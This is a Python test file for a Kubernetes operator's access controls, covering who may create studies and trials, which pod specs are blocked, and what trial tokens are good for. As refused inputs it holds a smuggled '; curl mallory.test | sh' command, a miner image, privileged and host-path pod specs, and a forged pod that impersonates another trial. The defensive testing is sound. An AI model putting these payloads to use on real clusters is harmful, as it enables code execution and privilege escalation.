"""Nobody gets more by a study than they had: who may make one, what its pods may be, what their tokens are good for."""

import json
import secrets
import ssl
from collections.abc import Iterator
from typing import Any
from urllib.error import HTTPError
from urllib.request import Request, urlopen

import pytest
import yaml
from _studies import Studies, study, until

from devcluster.cluster import Cluster
from devcluster.stack import Stack

Object = dict[str, Any]
FORBIDDEN = "alice may not create Jobs in namespace "


@pytest.fixture
def own(cluster: Cluster, namespace: str) -> Studies:
    """A namespace in which alice may do anything to studies and trials, and nothing else."""
    kinds = "studies.tuneyard.dev,studies.tuneyard.dev/scale,trials.tuneyard.dev"
    cluster.kubectl("-n", namespace, "create", "role", "studies", "--verb=*", f"--resource={kinds}")
    cluster.kubectl("-n", namespace, "create", "rolebinding", "studies", "--role=studies", "--user=alice")
    studies = Studies(cluster, namespace)
    probe = json.dumps(study("probe"))
    alice = ("create", "--as=alice", "--dry-run=server", "-f", "-")
    until(lambda: FORBIDDEN in studies.kubectl(*alice, check=False, stdin=probe), "the policy for authors works")
    return studies


def test_who_may_not_create_jobs_makes_no_study(own: Studies) -> None:
    said = own.kubectl("create", "--as=alice", "-f", "-", stdin=json.dumps(study("s")), check=False)
    assert "Error from server (Forbidden)" in said
    assert (
        f"alice may not create Jobs in namespace {own.namespace}, and trials run as Jobs; "
        "ask for a role that allows to create jobs.batch there, such as edit"
    ) in said
    own.kubectl("create", "role", "jobs", "--verb=create", "--resource=jobs.batch")
    own.kubectl("create", "rolebinding", "jobs", "--role=jobs", "--user=alice")
    made = ("create", "--as=alice", "--dry-run=server", "-f", "-")
    until(lambda: "created" in own.kubectl(*made, stdin=json.dumps(study("s")), check=False), "alice may now")


def test_who_may_not_create_jobs_makes_no_trial_of_somebody_elses_study(own: Studies) -> None:
    spec = {"study": "s", "index": 0, "parameters": {"x": "; curl mallory.test | sh"}}
    trial = {"apiVersion": "tuneyard.dev/v1alpha1", "kind": "Trial", "metadata": {"name": "s-0"}, "spec": spec}
    said = own.kubectl("create", "--as=alice", "-f", "-", stdin=json.dumps(trial), check=False)
    assert FORBIDDEN in said


@pytest.mark.parametrize(
    ("spec", "taken"),
    [
        ({"template": {"spec": {"containers": [{"name": "trial", "image": "mallory.test/miner"}]}}}, False),
        ({"parameters": [{"name": "x", "categorical": {"values": ["; curl mallory.test | sh"]}}]}, False),
        ({"initial": [{"x": 0.5}]}, False),
        ({"gpu": {"count": 8}}, False),
        ({"suspend": True}, True),
        ({"priority": 5}, True),
        ({"trials": {"max": 7}}, True),
    ],
    ids=lambda value: next(iter(value)) if isinstance(value, dict) else "",
)
def test_who_may_not_create_jobs_changes_how_many_run_but_not_what(own: Studies, spec: Object, taken: bool) -> None:
    own.apply(study("s", suspend=False))
    said = own.kubectl(
        "patch", "--as=alice", "study", "s", "--type=merge", "-p", json.dumps({"spec": spec}), check=False
    )
    assert ("patched" in said, FORBIDDEN in said) == (taken, not taken)
    assert "scaled" in own.kubectl("scale", "--as=alice", "study/s", "--replicas=2")
    assert "labeled" in own.kubectl("label", "--as=alice", "study", "s", "a=b")
    assert "deleted" in own.kubectl("delete", "--as=alice", "study", "s")


@pytest.fixture
def studies(cluster: Cluster, stack: Stack, namespace: str) -> Studies:
    """A namespace in which Tuneyard works."""
    return Studies(cluster, namespace)


def condition(status: Object, kind: str) -> Object:
    """A condition of a study."""
    found: Object = next(entry for entry in status["conditions"] if entry["type"] == kind)
    return found


PODS: dict[str, tuple[Object, str]] = {
    "privileged": (
        {"containers": [{"name": "trial", "image": "i", "securityContext": {"privileged": True}}]},
        'privileged (container "trial" must not set securityContext.privileged=true)',
    ),
    "host-namespace": ({"hostPID": True}, "host namespaces (hostPID=true)"),
    "host-path": (
        {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]},
        'violates PodSecurity "baseline:latest": hostPath volumes (volume "root")',
    ),
    "account": (
        {"serviceAccountName": "mighty"},
        'error looking up service account {namespace}/mighty: serviceaccount "mighty" not found',
    ),
}
"""What pods of a study want, and how they are refused; there is an account of that name in another namespace."""
QUOTA = "exceeded quota: none, requested: pods=1, used: pods=0, limited: pods=0"


def with_pods(name: str, **spec: Any) -> Object:
    """A study of one trial whose pods have this in their spec."""
    whole = study(name, trials={"max": 1, "parallel": 1})
    whole["spec"]["template"]["spec"] |= spec
    return whole


def test_pods_of_a_study_are_admitted_as_all_pods_of_the_namespace(
    studies: Studies, stack: Stack, cluster: Cluster, elsewhere: str
) -> None:
    studies.kubectl("label", "namespace", studies.namespace, "pod-security.kubernetes.io/enforce=baseline")
    cluster.kubectl("create", "serviceaccount", "mighty", "-n", elsewhere)
    cluster.kubectl("create", "quota", "none", "--hard=pods=0", "-n", elsewhere)
    full = Studies(cluster, elsewhere)
    full.apply(with_pods("quota"))
    for name, (spec, _) in PODS.items():
        studies.apply(with_pods(name, **spec))
    for name, (_, said) in PODS.items():
        told = condition(studies.wait(name, "Blocked"), "Blocked")["message"]
        assert said.format(namespace=studies.namespace) in told
    assert QUOTA in condition(full.wait("quota", "Blocked"), "Blocked")["message"]
    assert studies.objects("pods") == full.objects("pods") == []


def test_a_trial_has_no_credentials_of_the_api_server_unless_its_template_asks_for_them(studies: Studies) -> None:
    studies.apply(study("s", trials={"max": 1, "parallel": 1}))
    studies.wait("s")
    (pod,) = studies.objects("pods")
    sources = [source for volume in pod["spec"]["volumes"] for source in volume["projected"]["sources"]]
    expected = {"audience": "tuneyard", "expirationSeconds": 3600, "path": "token"}
    assert sources == [{"serviceAccountToken": expected}]


@pytest.fixture
def elsewhere(cluster: Cluster) -> Iterator[str]:
    """A namespace of somebody else's."""
    name = f"test-{secrets.token_hex(4)}"
    cluster.kubectl("create", "namespace", name)
    cluster.kubectl("wait", "--for=create", "--timeout=120s", "-n", name, "serviceaccount/default")
    yield name
    cluster.kubectl("delete", "namespace", name, "--wait=false")


def bound_token(cluster: Cluster, pod: Object) -> str:
    """What the kubelet mounts into a pod for Tuneyard."""
    meta = pod["metadata"]
    bound = ("--bound-object-kind=Pod", f"--bound-object-name={meta['name']}", f"--bound-object-uid={meta['uid']}")
    made = cluster.kubectl("create", "token", "default", "-n", meta["namespace"], "--audience=tuneyard", *bound)
    return made.stdout.strip()


def running(studies: Studies) -> Object:
    """The study's pod, once it runs."""
    found: Object = until(lambda: [p for p in studies.objects("pods") if p["status"]["phase"] == "Running"], "a pod")[0]
    return found


def test_the_api_server_takes_a_trials_token_for_nothing(studies: Studies, cluster: Cluster) -> None:
    studies.apply(study("s", annotations={"duration-ms": "600000"}, trials={"max": 1, "parallel": 1}))
    bearer = bound_token(cluster, running(studies))
    server = yaml.safe_load(cluster.kubeconfig.read_text())["clusters"][0]["cluster"]["server"]
    unverified = ssl._create_unverified_context()
    for path in ("/api", "/version", "/openid/v1/jwks", f"/api/v1/namespaces/{studies.namespace}/pods"):
        with pytest.raises(HTTPError) as refused:
            urlopen(Request(server + path, headers={"Authorization": f"Bearer {bearer}"}), context=unverified)
        refused.value.close()
        assert refused.value.code == 401, path


def test_a_pod_with_the_labels_of_somebody_elses_trial_is_not_it(
    studies: Studies, cluster: Cluster, stack: Stack, elsewhere: str
) -> None:
    studies.apply(study("s", annotations={"duration-ms": "4000"}, trials={"max": 1, "parallel": 1}))
    real = running(studies)
    message = {"kwok.tuneyard.dev/message": '{"loss": -1}', "kwok.tuneyard.dev/duration-ms": "600000"}
    forged = {"apiVersion": "v1", "kind": "Pod", "spec": {"containers": [{"name": "c", "image": "i"}]},
              "metadata": {"name": "forged", "labels": real["metadata"]["labels"], "annotations": message}}  # fmt: skip
    mallory = Studies(cluster, elsewhere)
    mallory.apply(forged)
    bearer = bound_token(cluster, running(mallory))
    body = json.dumps({"reports": [{"step": 1, "metrics": {"loss": -1.0}}]}).encode()
    url = f"http://127.0.0.1:{stack.report_ports['operator']}/v1/reports"
    with pytest.raises(HTTPError) as refused:
        urlopen(Request(url, body, {"Authorization": f"Bearer {bearer}"}))
    refused.value.close()
    assert refused.value.code == 503
    mallory.kubectl("delete", "pod", "forged", "--force", "--grace-period=0")
    studies.wait("s")
    status = studies.trials("s")[0]["status"]
    assert status["value"] >= 0
    assert len(status["attempts"]) == 1
